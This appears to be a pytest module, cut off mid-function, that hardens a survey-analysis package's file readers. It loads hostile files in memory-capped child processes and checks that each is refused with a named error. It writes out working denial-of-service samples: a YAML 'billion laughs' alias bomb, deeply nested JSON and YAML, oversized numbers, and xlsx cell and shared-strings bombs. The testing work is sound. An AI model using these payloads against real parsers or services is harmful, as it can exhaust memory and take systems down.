"""Hostile input: every reader refuses it with a named copfactors error, within memory and time.

A survey, plan or model file may come from someone else. Each hostile file here (a YAML
"billion laughs", a workbook declaring a million rows, a model file claiming a billion
features, ...) is loaded in a child process with capped memory and a time limit
(:func:`run_capped`), so that a reader that tries to build what the file describes fails the
test with a clear message (``MemoryError`` under the cap, or the time limit) instead of taking
the machine down. The fuzz tests mutate small valid files of every format and check, in the
same kind of child, that only a :class:`~copfactors.errors.CopFactorsError` (or a valid result)
comes out.

The memory cap: ``resource.RLIMIT_AS`` (address space) of 2 GiB, set in the child after it has
imported numpy, pandas and copfactors. Measured on a 2-core machine (VmSize), those imports
reserve 0.37 GB of address space, and 0.62 GB once every reader's libraries are loaded too
(pyarrow, openpyxl, pyreadstat, scipy, scikit-learn), which leaves a load about 1.4 GiB.
OpenBLAS reserves a buffer and a thread stack per core at import, so on a machine with many
cores the imports alone can approach 2 GiB: the cap is then the imports' footprint plus 1.5 GiB
(:data:`HEADROOM`). Address space, not resident memory, is capped because it is what a single
huge allocation (``range(10**9)``, a 20-million-string table) asks for first, and the cap fails
that allocation with ``MemoryError`` at once.

The longer fuzz run is marked ``fuzz_long`` and deselected by default (``addopts`` in
pyproject.toml); run it with ``python -m pytest -q -m fuzz_long tests/test_hostile.py``.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import io
import json
import math
import random
import re
import subprocess
import sys
import tempfile
import time
import unicodedata
import warnings
import zipfile
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

HERE = Path(__file__).resolve()
GiB = 1 << 30
#: Address space a child may use (see the module docstring).
MEMORY_CAP = 2 * GiB
#: Address space a child may use beyond its imports, when that is more than MEMORY_CAP.
HEADROOM = 3 * GiB // 2
#: Seconds one hostile load (or one fuzz run of the normal suite) may take.
TIME_LIMIT = 60.0
#: Seconds a child may take to start (python, numpy, pandas, copfactors).
STARTUP_LIMIT = 60.0

# ---------------------------------------------------------------------------------------------
# running a load in a capped child process
# ---------------------------------------------------------------------------------------------
_CHILD = r"""
import json, resource, sys, time, traceback

spec = json.loads(sys.argv[1])
out = open(spec["out"], "a", encoding="utf-8")


def emit(**record):
    out.write(json.dumps(record, default=repr) + "\n")
    out.flush()


def vm_size():
    with open("/proc/self/status", encoding="ascii") as fh:
        for line in fh:
            if line.startswith("VmSize:"):
                return int(line.split()[1]) * 1024
    return 0


import numpy, pandas, copfactors  # noqa: E401 - their footprint comes before the cap
from copfactors.errors import CopFactorsError

footprint = vm_size()
cap = max(spec["cap"], footprint + spec["headroom"])
resource.setrlimit(resource.RLIMIT_AS, (cap, cap))
module = None
if any(case["function"] for case in spec["cases"]):
    import importlib.util

    found = importlib.util.spec_from_file_location("_hostile_child", spec["file"])
    module = importlib.util.module_from_spec(found)
    sys.modules[found.name] = module  # dataclasses look their module up there
    found.loader.exec_module(module)
emit(event="ready", footprint=footprint, cap=cap)
for case in spec["cases"]:
    emit(event="start", case=case["name"])
    start = time.perf_counter()
    try:
        if case["function"]:
            value = getattr(module, case["function"])(*case["args"])
        else:
            namespace = {"args": case["args"]}
            exec(compile(case["code"], "<" + case["name"] + ">", "exec"), namespace)
            value = namespace.get("result")
        record = {"status": "ok", "value": value}
    except BaseException as err:
        kind = type(err)
        record = {
            "status": "raised",
            "type": kind.__name__,
            "mro": [c.__name__ for c in kind.__mro__],
            "copfactors": isinstance(err, CopFactorsError),
        }
        try:
            message = str(err)
            record.update(
                message=message[:4000],
                message_length=len(message),
                traceback=traceback.format_exc()[-3000:],
            )
        except BaseException:  # out of memory while describing the error
            record.update(message="(could not be formatted)", message_length=-1)
        del err
    emit(event="end", case=case["name"], elapsed=time.perf_counter() - start, **record)
    if record.get("type") == "MemoryError":
        break  # the parent runs the remaining cases in a fresh child
"""


@dataclass
class Outcome:
    """What one load in a capped child did."""

    name: str
    status: str  # "ok", "raised", "timeout" or "died"
    value: Any = None
    type: str = ""
    mro: list[str] = field(default_factory=list)
    copfactors: bool = False
    message: str = ""
    message_length: int = 0
    traceback: str = ""
    elapsed: float = math.nan
    detail: str = ""
    args: list[Any] = field(default_factory=list)  # the case's arguments (file paths)

    def describe(self) -> str:
        if self.status == "ok":
            return f"{self.name}: no error, returned {self.value!r:.300}"
        if self.status == "raised":
            return (
                f"{self.name}: raised {self.type} after {self.elapsed:.1f} s: "
                f"{self.message[:600]}\n{self.traceback[-1500:]}"
            )
        return f"{self.name}: {self.status}: {self.detail}"


@dataclass
class Case:
    """A load to run in a capped child: a function of this module by name, or Python code.

    Code sees its arguments as ``args`` and sets ``result``; a function gets them as its
    positional arguments and returns its result. Arguments and results are JSON values.
    """

    target: Callable[..., Any] | str
    args: Sequence[Any] = ()


def _tail(path: Path, n: int = 1500) -> str:
    try:
        return path.read_text(encoding="utf-8", errors="replace")[-n:]
    except OSError:
        return ""


def _one_child(
    cases: list[tuple[str, Case]], timeout: float, cap: int, work: Path
) -> dict[str, Outcome]:
    """Run cases in order in one child; return the outcome of each case it got to."""
    out = work / "events.jsonl"
    out.write_text("", encoding="utf-8")
    spec = {
        "file": str(HERE),
        "out": str(out),
        "cap": cap,
        "headroom": HEADROOM,
        "cases": [
            {
                "name": name,
                "function": case.target.__name__ if callable(case.target) else None,
                "code": None if callable(case.target) else case.target,
                "args": list(case.args),
            }
            for name, case in cases
        ],
    }
    with (work / "stdout").open("wb") as so, (work / "stderr").open("wb") as se:
        proc = subprocess.Popen(
            [sys.executable, "-c", _CHILD, json.dumps(spec)], stdout=so, stderr=se, cwd=work
        )
    outcomes: dict[str, Outcome] = {}
    current: str | None = None
    deadline = time.monotonic() + STARTUP_LIMIT
    seen = 0
    pending = ""
    try:
        while True:
            rc = proc.poll()
            with out.open(encoding="utf-8") as fh:
                fh.seek(seen)
                chunk = fh.read()
                seen += len(chunk.encode("utf-8"))
            pending += chunk
            *lines, pending = pending.split("\n")
            for line in lines:
                event = json.loads(line)
                if event["event"] == "start":
                    current = event["case"]
                    deadline = time.monotonic() + timeout
                elif event["event"] == "end":
                    fields = {k: v for k, v in event.items() if k not in ("event", "case")}
                    outcomes[event["case"]] = Outcome(name=event["case"], **fields)
                    current = None
                    deadline = time.monotonic() + STARTUP_LIMIT
            if rc is not None:
                if current is not None:
                    outcomes[current] = Outcome(
                        current,
                        "died",
                        detail=f"the child process died (exit code {rc}; a negative code is a "
                        f"signal) while loading; its stderr ends:\n{_tail(work / 'stderr')}",
                    )
                elif not outcomes:
                    for name, _ in cases:
                        outcomes[name] = Outcome(
                            name,
                            "died",
                            detail=f"the child process exited (code {rc}) before loading "
                            f"anything; its stderr ends:\n{_tail(work / 'stderr')}",
                        )
                return outcomes
            if time.monotonic() > deadline:
                proc.kill()
                proc.wait()
                if current is not None:
                    outcomes[current] = Outcome(
                        current,
                        "timeout",
                        detail=f"no answer within the {timeout:.0f} s time limit (killed)",
                    )
                else:
                    for name, _ in cases:
                        outcomes.setdefault(
                            name,
                            Outcome(
                                name,
                                "timeout",
                                detail=f"the child did not start within {STARTUP_LIMIT:.0f} s",
                            ),
                        )
                return outcomes
            time.sleep(0.02)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()


def run_capped_batch(
    cases: Mapping[str, Case], *, timeout: float = TIME_LIMIT, cap: int = MEMORY_CAP
) -> dict[str, Outcome]:
    """Run each case under the memory cap and the time limit, several per child process.

    The cases run in order in one child; if it dies, runs out of memory or a case takes longer
    than ``timeout`` seconds, that case gets the outcome (``"died"``, ``MemoryError``,
    ``"timeout"``) and the remaining cases run in a fresh child.
    """
    todo = list(cases.items())
    outcomes: dict[str, Outcome] = {}
    with tempfile.TemporaryDirectory(prefix="capped-") as tmp:
        while todo:
            done = _one_child(todo, timeout, cap, Path(tmp))
            assert done, "a capped child made no progress"
            outcomes.update(done)
            todo = [(name, case) for name, case in todo if name not in outcomes]
    for name, outcome in outcomes.items():
        outcome.args = list(cases[name].args)
    return outcomes


def run_capped(
    target: Callable[..., Any] | str,
    *args: Any,
    timeout: float = TIME_LIMIT,
    cap: int = MEMORY_CAP,
) -> Outcome:
    """Run one load (a function of this module, or code) in a capped child; see :class:`Case`."""
    return run_capped_batch({"load": Case(target, args)}, timeout=timeout, cap=cap)["load"]


def assert_refused(outcome: Outcome, error: str = "CopFactorsError") -> Outcome:
    """The load raised the copfactors error ``error`` (by class name, or a subclass of it)."""
    if outcome.status == "timeout":
        pytest.fail(f"{outcome.name}: no answer within {TIME_LIMIT:.0f} s: {outcome.detail}")
    if outcome.status == "died":
        pytest.fail(outcome.describe())
    if outcome.status == "ok":
        pytest.fail(f"the hostile input was accepted: {outcome.describe()}")
    if outcome.type == "MemoryError":
        pytest.fail(
            f"ran out of memory under the {MEMORY_CAP // GiB} GiB cap instead of refusing the "
            f"input with a named error: {outcome.describe()}"
        )
    if not outcome.copfactors:
        pytest.fail(f"not a copfactors error: {outcome.describe()}")
    if error not in outcome.mro:
        pytest.fail(f"expected a {error}: {outcome.describe()}")
    return outcome


# ---------------------------------------------------------------------------------------------
# loads run in the child (module-level functions, called by name)
# ---------------------------------------------------------------------------------------------
def load_plan(path: str) -> int:
    """Read a plan and build its members (as scoring does): the number of members."""
    from copfactors.plans import PlannedCoP

    return len(PlannedCoP.from_file(path).to_members())


def load_model_file(path: str) -> str:
    """Read a model file: the type of model read."""
    from copfactors.persist import load_model

    return type(load_model(path)).__name__


def read_survey_file(path: str) -> list[int]:
    """Read (and validate) a survey file: its shape."""
    from copfactors.io import read_survey

    return list(read_survey(path).shape)


def read_survey_twice(path: str, reference: str) -> bool:
    """Read two survey files: whether they hold the same table."""
    from copfactors.io import read_survey

    a, b = read_survey(path), read_survey(reference)
    return bool(a.reset_index(drop=True).equals(b.reset_index(drop=True)))


def cli(args: list[str]) -> dict[str, Any]:
    """Run the command line (in the child): exit code, output and any escaped exception."""
    from typer.testing import CliRunner

    from copfactors.cli import app

    result = CliRunner().invoke(app, args)
    return {
        "exit_code": result.exit_code,
        "stdout": result.stdout[-3000:],
        "stderr": result.stderr[-3000:],
        "exception": type(result.exception).__name__ if result.exception else None,
        "exception_message": str(result.exception)[:500] if result.exception else None,
    }


# ---------------------------------------------------------------------------------------------
# small valid files to start from
# ---------------------------------------------------------------------------------------------
def _example_survey():
    import copfactors as cf

    return cf.load_example_survey()


def _sav_frame(survey):
    """The survey with plain columns pyreadstat can write (numbers as float, text as str)."""
    import pandas as pd

    out = {}
    for col in survey.columns:
        s = survey[col]
        if pd.api.types.is_bool_dtype(s) or pd.api.types.is_numeric_dtype(s):
            out[col] = pd.to_numeric(s.astype("Float64"), errors="coerce").astype(float)
        else:
            out[col] = s.astype(object).where(s.notna(), "").astype(str)
    return pd.DataFrame(out)


@pytest.fixture(scope="module")
def valid(tmp_path_factory) -> dict[str, Path]:
    """Small valid files of every format the readers take (survey rows are SIMULATED)."""
    import pyreadstat

    from copfactors.persist import fit_attainment_model, save_model

    folder = tmp_path_factory.mktemp("valid")
    survey = _example_survey()
    small = survey.head(6)
    files = {
        "csv": folder / "survey.csv",
        "xlsx": folder / "survey.xlsx",
        "sav": folder / "survey.sav",
        "parquet": folder / "survey.parquet",
        "plan_yaml": folder / "plan.yaml",
        "plan_json": folder / "plan.json",
        "model": folder / "model.json",
        "reference_model": folder / "reference-ordinal.json",
    }
    small.to_csv(files["csv"], index=False)
    small.to_excel(files["xlsx"], index=False)
    pyreadstat.write_sav(_sav_frame(small), str(files["sav"]))
    small.to_parquet(files["parquet"])
    plans = Path(_package_file("data/plans"))
    files["plan_yaml"].write_bytes((plans / "heart-health-association.yaml").read_bytes())
    import yaml

    plan = yaml.safe_load((plans / "designated-no-steward.yaml").read_text(encoding="utf-8"))
    files["plan_json"].write_text(json.dumps(plan, indent=2), encoding="utf-8")
    from copfactors.features import CoPFeatureBuilder

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        model = fit_attainment_model(survey, builder=CoPFeatureBuilder(exclude="sponsor"))
    save_model(model, files["model"])
    files["reference_model"].write_bytes(
        Path(_package_file("data/reference-ordinal.json")).read_bytes()
    )
    return files


def _package_file(name: str) -> str:
    import copfactors

    return str(Path(copfactors.__file__).parent / name)


# ---------------------------------------------------------------------------------------------
# model files: the checksum, recomputed as copfactors.persist documents it
# ---------------------------------------------------------------------------------------------
def model_checksum(document: Mapping[str, Any]) -> str:
    """SHA-256 of the canonical JSON of a model document without its ``checksum`` key."""
    body = {k: v for k, v in document.items() if k != "checksum"}
    text = json.dumps(body, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    return hashlib.sha256(text.encode("utf-8")).hexdigest()


def write_model(document: dict[str, Any], path: Path) -> Path:
    """Write a (changed) model document with its checksum recomputed: only its content can
    then refuse it."""
    document["checksum"] = {"algorithm": "sha256", "value": model_checksum(document)}
    path.write_text(json.dumps(document, ensure_ascii=False), encoding="utf-8")
    return path


def test_the_checksum_is_recomputed_as_copfactors_computes_it(valid):
    for name in ("model", "reference_model"):
        doc = json.loads(valid[name].read_text(encoding="utf-8"))
        assert doc["checksum"]["value"] == model_checksum(doc), name


# ---------------------------------------------------------------------------------------------
# the capped child itself
# ---------------------------------------------------------------------------------------------
def test_the_child_reports_errors_memory_and_time():
    outcomes = run_capped_batch(
        {
            "fine": Case("result = sum(args)", (1, 2)),
            "named": Case(
                "from copfactors.errors import PlanError\nraise PlanError('bad plan')", ()
            ),
            "huge": Case("result = len(bytearray(3 * 1024**3))", ()),
            "after": Case("result = 'still running'", ()),
            "slow": Case("import time\ntime.sleep(30)", ()),
        },
        timeout=1.5,
    )
    assert outcomes["fine"].status == "ok" and outcomes["fine"].value == 3
    named = outcomes["named"]
    assert named.copfactors and "PlanError" in named.mro and named.message == "bad plan"
    assert outcomes["huge"].type == "MemoryError", outcomes["huge"].describe()
    assert outcomes["after"].value == "still running"  # run in a fresh child after the MemoryError
    assert outcomes["slow"].status == "timeout"


# ---------------------------------------------------------------------------------------------
# the hostile loads: built in one folder, run together in one capped child (the imports are
# paid once; a case that runs out of memory or time is named and the rest go on in a fresh
# child); each test below checks its own cases
# ---------------------------------------------------------------------------------------------
#: name -> builder(folder, valid files) -> Case
HOSTILE: dict[str, Callable[[Path, dict[str, Path]], Case]] = {}


def _register(case: str, build: Callable[..., Case], /, **kwargs: Any) -> None:
    assert case not in HOSTILE, case
    HOSTILE[case] = lambda folder, valid: build(folder, valid, **kwargs)


@pytest.fixture(scope="module")
def hostile(valid, tmp_path_factory) -> dict[str, Outcome]:
    """The outcome of every hostile load, by name."""
    root = tmp_path_factory.mktemp("hostile")
    cases = {}
    for n, (name, build) in enumerate(HOSTILE.items()):
        folder = root / f"{n:02d}"
        folder.mkdir()
        cases[name] = build(folder, valid)
    return run_capped_batch(cases)


def _text_case(folder: Path, valid, *, name: str, text: str, load: Callable[..., Any]) -> Case:
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return Case(load, [str(path)])


# ---------------------------------------------------------------------------------------------
# plans: YAML and JSON
# ---------------------------------------------------------------------------------------------
BILLION_LAUGHS = """\
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
name: *h
"""
_register(
    "plan/billion-laughs", _text_case, name="laughs.yaml", text=BILLION_LAUGHS, load=load_plan
)


def test_billion_laughs_plan_is_refused_quickly_with_a_short_message(hostile):
    assert len(BILLION_LAUGHS.encode()) < 400  # 9**8 = 43 million "lol"s once expanded
    outcome = assert_refused(hostile["plan/billion-laughs"], "PlanError")
    assert outcome.elapsed < 5, f"took {outcome.elapsed:.1f} s to refuse a 400-byte plan"
    path = outcome.args[0]
    length = outcome.message_length - outcome.message.count(path) * len(path)
    assert length < 300, (
        f"the message is {length} characters besides the file's name: {outcome.message[:500]!r}"
    )


DEEP_PLANS = {
    "yaml-flow-20000": ("deep.yaml", "name: x\ncomposition: " + "[" * 20_000 + "]" * 20_000),
    "yaml-block-300": (
        "deep.yaml",
        "name: x\ncomposition:\n" + "".join("  " * i + "a:\n" for i in range(1, 300)),
    ),
    "json-20000": (
        "deep.json",
        '{"name": "x", "composition": ' + "[" * 20_000 + "]" * 20_000 + "}",
    ),
    "json-300": ("deep.json", '{"name": "x", "composition": ' + '{"a": ' * 300 + "1" + "}" * 301),
}
for _id, (_name, _text) in DEEP_PLANS.items():
    _register(f"plan/deep/{_id}", _text_case, name=_name, text=_text, load=load_plan)


@pytest.mark.parametrize("case", list(DEEP_PLANS))
def test_deeply_nested_plan_is_refused(hostile, case):
    assert_refused(hostile[f"plan/deep/{case}"], "PlanError")


DUPLICATE_KEYS = {
    "json-top": (
        "twice.json",
        '{"name": "a", "name": "b", "composition": {"n_members": 5}}',
        "name",
    ),
    "json-nested": (
        "twice.json",
        '{"name": "a", "composition": {"n_members": 5, "n_members": 500}}',
        "n_members",
    ),
    "yaml-top": ("twice.yaml", "name: a\nname: b\ncomposition:\n  n_members: 5\n", "name"),
    "yaml-nested": (
        "twice.yaml",
        "name: a\ncomposition:\n  n_members: 5\n  n_members: 500\n",
        "n_members",
    ),
}
for _id, (_name, _text, _) in DUPLICATE_KEYS.items():
    _register(f"plan/duplicate/{_id}", _text_case, name=_name, text=_text, load=load_plan)


@pytest.mark.parametrize("case", list(DUPLICATE_KEYS))
def test_duplicate_keys_in_a_plan_are_refused_naming_the_key(hostile, case):
    outcome = assert_refused(hostile[f"plan/duplicate/{case}"], "PlanError")
    key = DUPLICATE_KEYS[case][2]
    assert key in outcome.message, outcome.message


HUGE_DIGITS = "9" * 5000  # beyond Python's 4300-digit limit for int(str)
HUGE_PLANS = {
    "json-members-1e12": ("huge.json", '{"composition": {"n_members": 1000000000000}}'),
    "json-members-5000-digits": (
        "huge.json",
        '{"composition": {"n_members": ' + HUGE_DIGITS + "}}",
    ),
    "json-leader-changes-1e23": (
        "huge.json",
        '{"leader_changes": 100000000000000000000000, "composition": {"n_members": 5}}',
    ),
    "yaml-members-1e12": ("huge.yaml", "composition:\n  n_members: 1000000000000\n"),
    "yaml-members-5000-digits": ("huge.yaml", "composition:\n  n_members: " + HUGE_DIGITS + "\n"),
    "yaml-leader-changes-1e23": (
        "huge.yaml",
        "leader_changes: 100000000000000000000000\ncomposition:\n  n_members: 5\n",
    ),
    "yaml-hours-1e300": ("huge.yaml", "composition:\n  n_members: 5\n  hours_per_week: 1.0e+300\n"),
}
for _id, (_name, _text) in HUGE_PLANS.items():
    _register(f"plan/huge/{_id}", _text_case, name=_name, text=_text, load=load_plan)


@pytest.mark.parametrize("case", list(HUGE_PLANS))
def test_huge_numbers_in_a_plan_are_refused(hostile, case):
    # the load builds the plan's members, as scoring does: a plan of 10**12 members that
    # were accepted would be built, not refused
    outcome = assert_refused(hostile[f"plan/huge/{case}"], "PlanError")
    assert outcome.message_length < 1000, outcome.message[:1000]


# ---------------------------------------------------------------------------------------------
# model files
# ---------------------------------------------------------------------------------------------
def _model_doc(valid, name="model") -> dict[str, Any]:
    return json.loads(valid[name].read_text(encoding="utf-8"))


def _at(doc: Any, keys: Sequence[Any]) -> Any:
    for key in keys:
        doc = doc[key]
    return doc


def _billion_features(folder: Path, valid) -> Case:
    doc = _model_doc(valid)
    doc["regression"]["n_features_in"] = 10**9
    doc["regression"]["feature_names_in"] = None  # so that nothing else contradicts it
    path = write_model(doc, folder / "billion.json")
    assert path.stat().st_size < 100_000
    return Case(load_model_file, [str(path)])


_register("model/billion-features", _billion_features)


def test_model_claiming_a_billion_features_is_refused(hostile):
    assert_refused(hostile["model/billion-features"], "ModelFormatError")


HUGE_MODEL_FIELDS = {
    "n_features_in": ("regression", "n_features_in"),
    "max_iter": ("regression", "params", "max_iter"),
    "nobs": ("regression", "nobs"),
}


def _huge_model_int(folder: Path, valid, *, where: Sequence[str]) -> Case:
    doc = _model_doc(valid)
    _at(doc, where[:-1])[where[-1]] = 10**100
    return Case(load_model_file, [str(write_model(doc, folder / "huge.json"))])


def _digits_model(folder: Path, valid) -> Case:
    doc = _model_doc(valid)
    doc["regression"]["n_features_in"] = 123456789123456789
    text = json.dumps(doc, ensure_ascii=False).replace("123456789123456789", HUGE_DIGITS)
    path = folder / "digits.json"
    path.write_text(text, encoding="utf-8")
    return Case(load_model_file, [str(path)])


for _id, _where in HUGE_MODEL_FIELDS.items():
    _register(f"model/huge/{_id}", _huge_model_int, where=_where)
_register("model/huge/5000-digits", _digits_model)


@pytest.mark.parametrize("case", [*HUGE_MODEL_FIELDS, "5000-digits"])
def test_huge_integers_in_a_model_are_refused(hostile, case):
    assert_refused(hostile[f"model/huge/{case}"], "ModelFormatError")


def _lone_surrogate(folder: Path, valid) -> Case:
    """A model whose ``training.source`` is the JSON escape of a lone UTF-16 surrogate, which
    json.loads reads into a text that cannot be encoded as UTF-8 (found by fuzzing)."""
    doc = _model_doc(valid)
    doc["training"]["source"] = "SURROGATE"
    path = folder / "surrogate.json"
    text = json.dumps(doc, ensure_ascii=False).replace('"SURROGATE"', '"\\ud800"')
    path.write_text(text, encoding="utf-8")
    return Case(load_model_file, [str(path)])


def _list_fill_value(folder: Path, valid) -> Case:
    """A model whose builder's missing report has a list as a fill value (found by fuzzing)."""
    doc = _model_doc(valid)
    rows = doc["builder"]["missing_report"]
    assert rows
    rows[-1]["fill_value"] = []
    return Case(load_model_file, [str(write_model(doc, folder / "fill.json"))])


_register("model/wrong/lone-surrogate", _lone_surrogate)
_register("model/wrong/list-fill-value", _list_fill_value)


@pytest.mark.parametrize("case", ["lone-surrogate", "list-fill-value"])
def test_model_with_a_wrong_value_is_refused(hostile, case):
    assert_refused(hostile[f"model/wrong/{case}"], "ModelFormatError")


# where each invariant's field is: a version 1 regression, and the shipped reference model's
# random-intercept regression (version 2; its outcome levels are those of its ``fixed`` part)
_FIELDS = {
    "model": {
        "thresholds": ("regression", "thresholds", "values"),
        "classes": ("regression", "classes", "values"),
        "cov": ("regression", "cov", "matrix"),
        "se": ("regression", "se"),
    },
    "reference_model": {
        "thresholds": ("regression", "thresholds", "values"),
        "classes": ("regression", "fixed", "classes", "values"),
        "cov": ("regression", "cov", "matrix"),
        "se": ("regression", "se"),
    },
}
_NAMED = {
    "thresholds": r"threshold",
    "classes": r"class",
    "cov": r"\bcov\b|covariance",
    "se": r"\bse\b|standard error",
}


def _broken_model(folder: Path, valid, *, model: str, invariant: str) -> Case:
    """A model file with one invariant broken and its checksum recomputed."""
    doc = _model_doc(valid, model)
    values = _at(doc, _FIELDS[model][invariant])
    if invariant in ("thresholds", "classes"):
        values.reverse()
    elif invariant == "cov":
        # symmetric, diagonal unchanged, but the first 2x2 minor is negative: not PSD
        values[0][1] = values[1][0] = 2.0 * math.sqrt(values[0][0] * values[1][1])
    else:
        values[0] = -abs(values[0]) - 0.5
    return Case(load_model_file, [str(write_model(doc, folder / f"{invariant}.json"))])


for _model in _FIELDS:
    for _invariant in _NAMED:
        _register(f"model/{_model}/{_invariant}", _broken_model, model=_model, invariant=_invariant)


@pytest.mark.parametrize("model", list(_FIELDS))
@pytest.mark.parametrize("invariant", list(_NAMED))
def test_model_with_a_broken_invariant_is_refused_naming_the_field(hostile, model, invariant):
    outcome = assert_refused(hostile[f"model/{model}/{invariant}"], "ModelFormatError")
    assert re.search(_NAMED[invariant], outcome.message, re.I), (
        f"the message does not name {invariant}: {outcome.message}"
    )


# ---------------------------------------------------------------------------------------------
# copfactors score: parameter draws and seed
# ---------------------------------------------------------------------------------------------
def _assert_cli_error(value: dict[str, Any], *words: str) -> None:
    assert value["exception"] in (None, "SystemExit"), (
        f"an exception escaped the command line: {value['exception']}: {value['exception_message']}"
    )
    assert value["exit_code"] == 1, value
    assert "error:" in value["stderr"], value
    for word in words:
        assert word in value["stderr"], value


_register(
    "cli/billion-draws",
    lambda folder, valid: Case(cli, [["score", str(valid["plan_yaml"]), "--draws", "1000000000"]]),
)


def test_score_with_a_billion_draws_is_refused(hostile):
    outcome = hostile["cli/billion-draws"]
    assert outcome.status == "ok", outcome.describe()
    _assert_cli_error(outcome.value, "draws")


def test_score_with_a_negative_seed_is_refused(valid):
    from typer.testing import CliRunner

    from copfactors.cli import app

    result = CliRunner().invoke(app, ["score", str(valid["plan_yaml"]), "--seed", "-1"])
    _assert_cli_error(
        {
            "exit_code": result.exit_code,
            "stderr": result.stderr,
            "exception": type(result.exception).__name__ if result.exception else None,
            "exception_message": str(result.exception),
        },
        "seed",
    )


# ---------------------------------------------------------------------------------------------
# surveys: Excel
# ---------------------------------------------------------------------------------------------
def _far_cell(folder: Path, valid) -> Case:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(["respondent_id", "cop_id"])
    ws.append(["r1", "A"])
    ws["XFD1048576"] = 1  # the last cell of a sheet: 16384 columns, 1048576 rows
    path = folder / "far.xlsx"
    wb.save(path)
    assert path.stat().st_size < 10_000
    return Case(read_survey_file, [str(path)])


_register("xlsx/far-cell", _far_cell)


def test_xlsx_with_one_cell_at_the_last_row_and_column_is_refused(hostile):
    assert_refused(hostile["xlsx/far-cell"], "DataFormatError")


_XLSX_PARTS = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
        "</Types>"
    ),
    "_rels/.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    ),
    "xl/workbook.xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ),
    "xl/_rels/workbook.xml.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/worksheet" Target="worksheets/sheet1.xml"/>'
        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    ),
    "xl/worksheets/sheet1.xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<dimension ref="A1:B2"/><sheetData>'
        '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
        '<row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2" t="s"><v>3</v></c></row>'
        "</sheetData></worksheet>"
    ),
}


def _shared_strings_xlsx(
    path: Path, filler_chunks: int, per_chunk: int = 1 << 16, *, distinct: bool = False
) -> Path:
    """A two-column workbook whose shared-strings table has ``filler_chunks * per_chunk``
    unused strings after the four it uses (written streaming: 17 bytes of XML each, or, with
    ``distinct``, 25 bytes of distinct texts that compress about as well as a survey's)."""
    n = 4 + filler_chunks * per_chunk
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in _XLSX_PARTS.items():
            z.writestr(name, text)
        with z.open("xl/sharedStrings.xml", "w", force_zip64=True) as fh:
            fh.write(
                b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                + f'count="{n}" uniqueCount="{n}">'.encode()
                + b"<si><t>respondent_id</t></si><si><t>cop_id</t></si>"
                b"<si><t>r1</t></si><si><t>A</t></si>"
            )
            chunk = b"<si><t>x</t></si>" * per_chunk
            rng = random.Random(0)
            for _ in range(filler_chunks):
                if distinct:
                    words = rng.randbytes(4 * per_chunk).hex()
                    chunk = b"".join(
                        b"<si><t>" + words[8 * i : 8 * i + 8].encode() + b"</t></si>"
                        for i in range(per_chunk)
                    )
                fh.write(chunk)
            fh.write(b"</sst>")
    return path


_register(
    "xlsx/shared-strings-control",
    lambda folder, valid: Case(
        read_survey_file, [str(_shared_strings_xlsx(folder / "ok.xlsx", 0))]
    ),
)


def _strings_bomb(folder: Path, valid) -> Case:
    path = _shared_strings_xlsx(folder / "strings.xlsx", 300)  # 19.7 million, 320 MB of XML
    assert path.stat().st_size < 3_000_000
    return Case(read_survey_file, [str(path)])


_register("xlsx/shared-strings-bomb", _strings_bomb)


def _many_strings(folder: Path, valid) -> Case:
    # 1.4 million distinct strings in 34 MB of XML that compresses 3 times: within the limits
    # on unpacked bytes and compression ratio, so only their number can refuse it
